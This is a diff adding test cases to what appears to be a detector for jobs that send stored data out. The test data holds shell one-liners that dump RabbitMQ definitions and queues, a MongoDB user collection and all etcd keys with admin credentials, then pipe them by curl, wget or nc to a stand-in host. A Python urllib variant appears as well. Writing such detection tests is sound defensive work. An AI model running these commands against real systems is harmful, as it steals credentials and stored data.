@@ -157,6 +157,21 @@ describe('the fourteenth red team: store data and keys sent by programs the send
     expect(sends(job({ ...sh(script), ...admin }))).toEqual(expected);
   });
 
+  it.each([
+    ['RabbitMQ definitions by curl, piped to curl', 'curl -s -u "admin:$P" http://localhost:15672/api/definitions | curl -s -X POST --data-binary @- https://collect.example.net/in', ['curl store-dump collect.example.net false']],
+    ['a queue\'s messages by wget, piped to nc', "wget -qO- --post-data='{\"count\":100}' http://rabbitmq:15672/api/queues/%2F/st2.actionrunner.work/get | nc collect.example.net 443", ['nc store-dump collect.example.net false']],
+    ['definitions saved to a file, the file posted', 'curl -s -u "admin:$P" -o /tmp/d.json http://localhost:15672/api/definitions; curl -s -F f=@/tmp/d.json https://collect.example.net/in', ['curl store-dump collect.example.net false']],
+    ['mongosh printing a collection, piped to curl', `mongosh "mongodb://admin:$P@localhost/st2?authSource=admin" --quiet --eval 'EJSON.stringify(db.user_d_b.find().toArray())' | curl -s -d @- https://collect.example.net/in`, ['curl store-dump collect.example.net false']],
+    ['etcdctl get of every key, piped to curl', 'etcdctl get --prefix "" | curl -s -T - https://collect.example.net/in', ['curl store-dump collect.example.net false']],
+    ['etcd\'s v2 keys over HTTP, piped to curl', 'curl -s http://etcd:2379/v2/keys/?recursive=true | curl -s -d @- https://collect.example.net/in', ['curl store-dump collect.example.net false']],
+    ['definitions into MinIO in the cluster', 'curl -s -u "admin:$P" http://localhost:15672/api/definitions | curl -s -T - http://minio.backup.svc.cluster.local:9000/b/defs.json', ['curl store-dump minio.backup.svc.cluster.local true']],
+    ['the aliveness test posted to a status page', 'curl -s -u "admin:$P" http://localhost:15672/api/aliveness-test/%2F | curl -s -d @- https://status.example.net/hook', []],
+    ['mongosh ping posted to a status page', `mongosh --quiet --eval 'db.runCommand({ping: 1}).ok' | curl -s -d @- https://status.example.net/hook`, []],
+    ['definitions saved to a file only', 'curl -s -u "admin:$P" -o /backup/defs.json http://localhost:15672/api/definitions', []],
+  ] as const)('a store\'s contents read over HTTP or by its shell, then sent: %s', (_name, script, expected) => {
+    expect(sends(job({ ...sh(script), ...admin }))).toEqual(expected);
+  });
+
   it('takes the URL a Python body is sent to, not the first URL the code reads (reading the local API stays inside)', () => {
     const code = "import urllib.request,os\nr=urllib.request.Request('http://localhost:15672/api/definitions',headers={'X':os.environ['P']})\nurllib.request.urlopen('https://collect.example.net/in', data=urllib.request.urlopen(r).read())";
     expect(sends(job({ command: ['python3', '-c', code], ...admin }))).toEqual(['python3 secret collect.example.net false']);
